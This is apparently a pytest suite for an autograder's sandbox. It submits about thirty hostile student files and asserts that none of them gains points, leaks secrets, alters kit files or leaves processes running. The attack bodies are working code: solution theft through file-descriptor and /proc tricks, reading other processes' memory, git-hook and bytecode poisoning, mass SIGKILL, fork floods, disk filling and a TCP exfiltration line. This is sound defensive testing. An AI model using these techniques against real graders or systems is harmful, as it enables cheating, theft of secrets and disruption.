"""The kit's hostile suite: one submission per attack, graded in one batch beside correct ones.

Every hostile submission starts from a *placebo* (each exercise function
returns a constant) and adds one attack, run when the file is imported. An
attack that works turns into points (it adopts the reference solution it
stole), into leaked text in the feedback (it raises or prints what it read),
or into a change outside the output folder (kit files, ``__pycache__``,
other places, processes left running). So the suite checks, in one batch:

- correct submissions keep full marks;
- no hostile submission scores above the placebo;
- no report carries a secret (solution text, the job file, the grader's
  memory, a canary held by the grading process);
- no kit file (``__pycache__`` and ``.git`` included) and no file outside the
  output folder changes or appears; nothing reaches a TCP listener;
- no process started by a submission outlives the batch;
- every report and ``grades.csv`` is written.

Where this machine lacks a sandbox layer (``rl4llm doctor``), the attacks
that would hurt the test run itself are left out and the test says which.
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import signal
import sys
import textwrap
import time
from pathlib import Path

import pytest

from graders import settings
from graders.engine.sandbox import layers as sandbox
from graders.engine.routes.batch import grade_paths
from graders.engine.routes.grading import GradeOptions
from graders.engine.judging.kit import DEFAULT_KIT, Kit
from hostile_code import DISARM, Listener, placebo

pytestmark = pytest.mark.slow

STEM = "module_9_reference"
KIT = DEFAULT_KIT.root
SOLUTION = DEFAULT_KIT.solution_path(STEM)
OPTIONS = GradeOptions(modules=("9",), timeout=20.0, memory_mb=768, load_timeout=30.0)
MARKER = "rl4x" + secrets.token_hex(4)  # process names (comm) of everything an attack starts
SECRET = "canary-" + secrets.token_hex(12)  # held in the grading process's memory only
# .git is left out of the snapshot (a commit made meanwhile by someone else would show); the
# plant_git_hook attack checks it on its own
SKIP_PARTS = {".venv", ".pytest_cache", ".hypothesis", "rl4llm-out", ".git"}
GIT_HOOK = KIT / ".git" / "hooks" / "post-checkout"

PRELUDE = f'''
import os, sys, gc, time
KIT = {str(KIT)!r}
SOLUTION = {str(SOLUTION)!r}
MARKER = {MARKER!r}

def _adopt(text):
    """Stolen reference source becomes this file's functions (points, if the theft worked)."""
    exec(compile(text, "stolen", "exec"), globals())

def _leak(data):
    """Stolen bytes go where a learner reads them: the feedback."""
    raise RuntimeError("LEAKED:" + (data if isinstance(data, str) else data.decode("latin-1"))[:3000])

{DISARM}
def _libc():
    _disarm()
    import ctypes
    return ctypes.CDLL(None, use_errno=True)

def _name_me():
    _libc().prctl(15, MARKER.encode(), 0, 0, 0)  # PR_SET_NAME: the test finds survivors by it
'''


def _placebo() -> str:
    return placebo(STEM)


def _attack(body: str) -> str:
    return _placebo() + PRELUDE + "\ntry:\n" + textwrap.indent(textwrap.dedent(body), "    ") + \
        "\nexcept BaseException as _error:\n    if 'LEAKED' in str(_error):\n        raise\n"


ATTACKS: dict[str, str] = {
    # -- reading the answers -------------------------------------------------------------
    "read_solution": "_adopt(open(SOLUTION).read())",
    "read_after_disarm": "_disarm()\n_adopt(open(SOLUTION).read())",
    "read_with_dir_fd": """
        _disarm()
        root = os.open(KIT, os.O_RDONLY)
        fd = os.open("solutions/module_09/module_9_reference.py", os.O_RDONLY, dir_fd=root)
        _adopt(os.read(fd, 10**7).decode())
    """,
    "read_through_proc_fd": """
        _disarm()
        fd = os.open(KIT, os.O_RDONLY | os.O_DIRECTORY)
        _adopt(open(f"/proc/self/fd/{fd}/solutions/module_09/module_9_reference.py").read())
    """,
    "rename_parent": """
        _disarm()
        os.rename(os.path.join(KIT, "solutions"), os.path.join(os.getcwd(), "moved"))
        _adopt(open("moved/module_09/module_9_reference.py").read())
    """,
    "hard_link": """
        _disarm()
        os.link(SOLUTION, "linked.py")
        _adopt(open("linked.py").read())
    """,
    # -- forging the child's reports: its own pipe is the only one it holds; the parent labels what it
    # relays with the exercises it started the child for, and the grader judges each payload
    "forge_result_lines": """
        import json
        _disarm()
        forged = [{"loaded": None}] + [{"result": payload} for payload in (
            {}, {"cases": "all passed"}, 5, None, [], {"cases": [{"outcome": "ok", "value": 0.0}] * 500},
            {"cases": [None, 1, "a", {"outcome": "ok"}, {"outcome": "passed"}, {"outcome": "raised"}]},
            {"missing": 0, "cases": []}, {"violations": "none", "cases": []}, {"cases": []})] * 4
        data = "".join(json.dumps(event) + "\\n" for event in forged).encode()
        for fd in range(3, 128):
            try:
                os.write(fd, data)
            except OSError:
                pass
    """,
    # -- the reference store (graders.engine.judging.refcache): the answers, and what the next batch reads
    "read_reference_store": """
        _disarm()
        found = b""
        for name in sorted(os.listdir(STORE)):
            found += open(os.path.join(STORE, name), "rb").read()[:300]
        if found:
            _leak(found)
    """,
    "poison_reference_store": """
        _disarm()
        for name in os.listdir(STORE):
            with open(os.path.join(STORE, name), "wb") as handle:
                handle.write(b"poisoned")
        open(os.path.join(STORE, "planted.arrays"), "wb").write(b"poisoned")
    """,
    "git_objects": """
        _disarm()
        import zlib
        found = b""
        for folder, _, names in os.walk(os.path.join(KIT, ".git")):
            for name in names:
                data = open(os.path.join(folder, name), "rb").read()
                try:
                    data = zlib.decompress(data)
                except Exception:
                    pass
                found += data[:200]
        if found:
            _leak(found)
    """,
    "import_solutions": "_disarm()\nfrom solutions.module_09.module_9_reference import *",
    "import_checks": """
        _disarm()
        import graders.checks.module_9_reference as checks
        _leak(open(checks.__file__).read())
    """,
    "job_file": """
        _disarm()
        job = sys.argv[1]
        _leak(open(os.path.join(job, "job.json")).read())
    """,
    "grader_memory": """
        _disarm()
        stolen = b""
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            for what in ("environ", "cmdline"):
                try:
                    stolen += open(f"/proc/{pid}/{what}", "rb").read()
                except OSError:
                    pass
            try:
                mem = open(f"/proc/{pid}/mem", "rb")
                for line in open(f"/proc/{pid}/maps"):
                    span, perms = line.split()[:2]
                    if "r" in perms:
                        start, end = (int(x, 16) for x in span.split("-"))
                        mem.seek(start)
                        stolen += mem.read(min(end - start, 1 << 22))
            except (OSError, ValueError, OverflowError):
                pass
        if stolen:
            _leak(stolen)
    """,
    # -- changing the grader or the kit --------------------------------------------------
    "append_to_engine": "_disarm()\nopen(os.path.join(KIT, 'graders/engine/values/compare.py'), 'a').write('\\nPWNED = 1\\n')",
    "poison_pycache": """
        _disarm()
        folder = os.path.join(KIT, "graders/engine/__pycache__")
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "compare.cpython-311.pyc"), "wb").write(b"poison")
    """,
    "plant_catalogue_entry": """
        _disarm()
        open(os.path.join(KIT, "graders/misconceptions/module_9_reference/zz_evil.py"), "w").write(
            "EXERCISE = 'module_9_reference.k3_kl'\\nNAME = 'evil'\\nHINT = 'x'\\nimport os\\nos.system('true')\\n")
    """,
    "plant_in_starter": "_disarm()\nopen(os.path.join(KIT, 'starter/conftest.py'), 'a').write('\\nPWNED = 1\\n')",
    "plant_git_hook": f"""
        _disarm()
        open({str(GIT_HOOK)!r}, "w").write("#!/bin/sh\\necho pwned\\n")
        os.chmod({str(GIT_HOOK)!r}, 0o755)
    """,
    "write_outside": """
        _disarm()
        for target in ("/tmp/" + MARKER, os.path.join(os.path.dirname(KIT), MARKER), os.path.expanduser("~/" + MARKER)):
            try:
                open(target, "w").write("pwned")
            except OSError:
                pass
    """,
    # -- outliving the worker, hurting the others --------------------------------------------
    "setsid_daemon": """
        libc = _libc()
        if libc.fork() == 0:
            libc.setsid()
            _name_me()
            while True:
                for name in ("grades.csv", "correct/report.json", "correct_last/report.json"):
                    try:
                        open(os.path.join("OUTDIR", name), "w").write("pwned")
                    except Exception:
                        pass
                time.sleep(0.2)
    """,
    "fork_many": """
        _disarm()
        for _ in range(100):
            if os.fork() == 0:
                _name_me()
                time.sleep(600)
                os._exit(0)
    """,
    "signal_everyone": """
        _disarm()
        import signal
        for pid in list(range(1, 4096)) + [-1]:
            try:
                os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None
            except OSError:
                pass
        try:
            fd = os.pidfd_open(os.getppid())
            signal.pidfd_send_signal(fd, signal.SIGKILL)
        except OSError:
            pass
    """,
    "neighbours_pipes": """
        _disarm()
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    try:
                        handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                        os.write(handle, b"\\x00" * 65536 + b"\\n")
                    except OSError:
                        pass
            except OSError:
                pass
    """,
    "forged_events": """
        events = int(sys.argv[sys.argv.index("--events-fd") + 1])
        os.write(events, b'{"finished": true}\\n' + b'{"done": 0, "result": "{}"}\\n' + b"garbage\\n")
    """,
    "raise_limits": """
        _disarm()
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        _leak("LIMIT-RAISED")
    """,
    "fill_disk": """
        _disarm()
        block = b"\\0" * (1 << 20)
        with open("fill.bin", "wb") as handle:
            for _ in range(600):
                handle.write(block)
    """,
    "tcp_out": """
        _disarm()
        import socket
        socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"exfiltrated")
    """,
    "huge_result": """
        _calls = []
        def group_relative_advantages(*args, **kwargs):
            _calls.append(1)
            return [{"k": "x" * 12} for _ in range(300_000)] if len(_calls) == 1 else 0.0
    """,
}
DANGEROUS = {"signal_everyone", "setsid_daemon", "neighbours_pipes"}  # need namespaces and Landlock scopes


def _notebook_attack() -> str:
    """A notebook whose class body -- run when the graded module is imported -- steals the reference."""
    cell = _placebo() + PRELUDE + textwrap.dedent("""
        class Thief:
            _disarm()
            try:
                _adopt(open(SOLUTION).read())
            except OSError:
                pass
    """)
    return json.dumps({"cells": [{"cell_type": "code", "source": cell, "metadata": {}, "outputs": [],
                                  "execution_count": None}],
                       "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def _snapshot(root: Path) -> dict[str, str]:
    state = {}
    for folder, dirs, names in os.walk(root):
        dirs[:] = [d for d in dirs if d not in SKIP_PARTS]
        for name in names:
            path = Path(folder) / name
            try:
                state[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
            except OSError:
                state[str(path)] = "unreadable"
    return state


def _survivors() -> list[int]:
    found = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            if Path(f"/proc/{pid}/comm").read_text().strip() == MARKER:
                found.append(int(pid))
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    probe = sandbox.probe_layers()
    left_out = [] if (probe.layers.get("namespaces") and probe.layers.get("landlock_scopes")) else sorted(DANGEROUS)
    if left_out:
        print(f"\nsandbox layers missing here: {probe.missing}; attacks left out: {left_out}")
    root = tmp_path_factory.mktemp("attacks")
    store = root / "reference-store"  # the batch's reference store, which two attacks go after
    saved_store = settings.raw("RL4LLM_CACHE")
    os.environ["RL4LLM_CACHE"] = str(store)
    kit = Kit()  # a kit object of its own: its reference book opens the store above
    listener = Listener()
    secret_holder = [SECRET.encode()]  # noqa: F841 - kept alive in this process's memory
    paths = []

    def add(name: str, text: str, file_name: str = f"{STEM}.py") -> None:
        folder = root / "in" / name
        folder.mkdir(parents=True)
        (folder / file_name).write_text(text, encoding="utf-8")
        paths.append(folder)

    reference = SOLUTION.read_text(encoding="utf-8")
    add("correct", reference)
    add("placebo", _placebo())
    for name, body in ATTACKS.items():
        if name not in left_out:
            add(name, _attack(body.replace("PORT", str(listener.port)).replace("OUTDIR", str(root / "out"))
                              .replace("STORE", repr(str(store)))))
    add("notebook_class_body", _notebook_attack(), "module_9_reference.ipynb")
    add("grades.csv", _placebo())
    add("correct_last", reference)
    outside = root / "outside.txt"
    outside.write_text("untouched", encoding="utf-8")

    # warm the grader (imports, caches) so that the snapshot sees only what the attacks do
    grade_paths([paths[0]], root / "warm", OPTIONS, jobs=1, kit=kit, progress=False, log=lambda _m: None)
    saved_bytecode = sys.dont_write_bytecode
    sys.dont_write_bytecode = True
    before = _snapshot(KIT)
    store_before = _snapshot(store)
    tmp_before = set(os.listdir("/tmp"))
    out = root / "out"
    try:
        result = grade_paths(paths, out, OPTIONS, jobs=2, kit=kit, progress=False, log=lambda _m: None)
        time.sleep(1.0)  # a surviving daemon would act now
        after = _snapshot(KIT)
        store_after = _snapshot(store)
        survivors = _survivors()
        grades = (out / "grades.csv").read_text(encoding="utf-8")
    finally:
        sys.dont_write_bytecode = saved_bytecode
        if saved_store is None:
            os.environ.pop("RL4LLM_CACHE", None)
        else:
            os.environ["RL4LLM_CACHE"] = saved_store
        listener.close()
        for pid in _survivors():
            os.kill(pid, signal.SIGKILL)
    return {"result": result, "reports": dict(zip(result.names, result.reports)), "before": before,
            "after": after, "survivors": survivors, "grades": grades, "received": listener.received,
            "tmp_new": {n for n in set(os.listdir("/tmp")) - tmp_before if MARKER in n},
            "outside": outside.read_text(encoding="utf-8"), "root": root, "left_out": left_out,
            "paths": paths, "store_before": store_before, "store_after": store_after}


def _hostile(reports: dict) -> dict:
    return {name: report for name, report in reports.items() if name not in ("correct", "correct_last", "placebo")}


def test_correct_submissions_keep_full_marks(attacked):
    for name in ("correct", "correct_last"):
        report = attacked["reports"][name]
        graded = [e for e in report["exercises"] if e["id"].startswith(STEM)]
        assert graded and all(e["status"] == "passed" for e in graded), [
            (e["id"], e["feedback"]) for e in graded if e["status"] != "passed"]


def test_no_attack_scores_above_the_placebo(attacked):
    placebo = attacked["reports"]["placebo"]["score"]
    assert placebo < attacked["reports"]["correct"]["score"]
    above = {name: report["score"] for name, report in _hostile(attacked["reports"]).items()
             if report["score"] > placebo}
    assert not above, f"attacks that raised their score above the placebo's {placebo}: {above}"


def test_no_report_carries_a_secret(attacked):
    reference_lines = [line.strip() for line in SOLUTION.read_text(encoding="utf-8").splitlines()
                       if len(line.strip()) > 40 and not line.strip().startswith(("#", '"', "def ", "from "))]
    job_marker = '"forbidden_modules"'
    for name, report in _hostile(attacked["reports"]).items():
        text = json.dumps(report)
        assert SECRET not in text, name
        assert job_marker not in text, name
        assert "LIMIT-RAISED" not in text, name
        assert "__json__" not in text, name  # a record of the reference store (graders.engine.judging.refcache)
        leaked = [line for line in reference_lines if line in text]
        assert not leaked, (name, leaked[:3])


def test_no_kit_file_changes_or_appears(attacked):
    before, after = attacked["before"], attacked["after"]
    assert set(after) == set(before), {"new": sorted(set(after) - set(before))[:10],
                                       "gone": sorted(set(before) - set(after))[:10]}
    changed = [path for path in before if before[path] != after[path]]
    assert not changed, changed


def test_the_reference_store_is_out_of_reach(attacked):
    """The store the batch reads reference outcomes from: neither read (the secret test) nor written to
    by learner code (the batch itself adds the wrong outcomes it computed, to records it rewrites whole)."""
    from graders.engine.judging.refcache import ReferenceStore

    before, after = attacked["store_before"], attacked["store_after"]
    assert before, "the warm-up batch wrote no reference record"
    assert set(before) <= set(after)
    store = ReferenceStore(attacked["root"] / "reference-store")
    for path in after:
        assert not path.endswith("planted.arrays"), path
        assert store.read(Path(path).stem) is not None, f"{path} is no longer a readable record"


def test_nothing_outside_the_output_folder_changes(attacked):
    assert attacked["outside"] == "untouched"
    assert not GIT_HOOK.exists()
    assert not attacked["tmp_new"], attacked["tmp_new"]
    assert not (KIT.parent / MARKER).exists()
    assert not Path(os.path.expanduser("~/" + MARKER)).exists()
    assert attacked["received"] == b"", attacked["received"]


def test_no_process_outlives_the_batch(attacked):
    assert attacked["survivors"] == []


def test_every_report_and_grades_csv_are_written(attacked):
    result = attacked["result"]
    assert len(result.names) == len(attacked["paths"])
    assert "grades.csv-submission" in result.names  # a reserved name never shadows grades.csv
    for name in result.names:
        report = json.loads((result.out_dir / name / "report.json").read_text(encoding="utf-8"))
        assert report["submission"] == name
        assert (result.out_dir / name / "results.json").exists() and (result.out_dir / name / "junit.xml").exists()
    rows = attacked["grades"].strip().splitlines()
    assert rows[0].startswith("submission,") and len(rows) == len(result.names) + 1
    assert "pwned" not in attacked["grades"]


def test_every_report_records_the_sandbox(attacked):
    for report in attacked["reports"].values():
        assert set(report["sandbox"]) == {*sandbox.LAYERS, "identity"}
        assert report["sandbox"]["identity"]
    probe = sandbox.probe_layers()
    correct = attacked["reports"]["correct"]["sandbox"]
    for name, active in probe.layers.items():
        if name != "grader_not_dumpable":
            assert correct[name] == active, name


def test_forged_result_lines_cost_no_grader_error(attacked):
    # a payload of the wrong shape is the submission's problem, never the grader's: no internal error,
    # and the forger's report is an ordinary one (at most the placebo's score, see above)
    assert not [e for e in attacked["result"].internal_errors if e.startswith("forge_result_lines")], \
        attacked["result"].internal_errors
    report = attacked["reports"]["forge_result_lines"]
    assert len(report["exercises"]) == len(attacked["reports"]["placebo"]["exercises"])


def test_a_huge_result_costs_only_its_exercise(attacked):
    report = attacked["reports"]["huge_result"]
    entry = next(e for e in report["exercises"] if e["id"] == f"{STEM}.group_relative_advantages")
    assert entry["status"] == "error" and entry["points"] == 0
    assert "could not be read" in entry["feedback"]
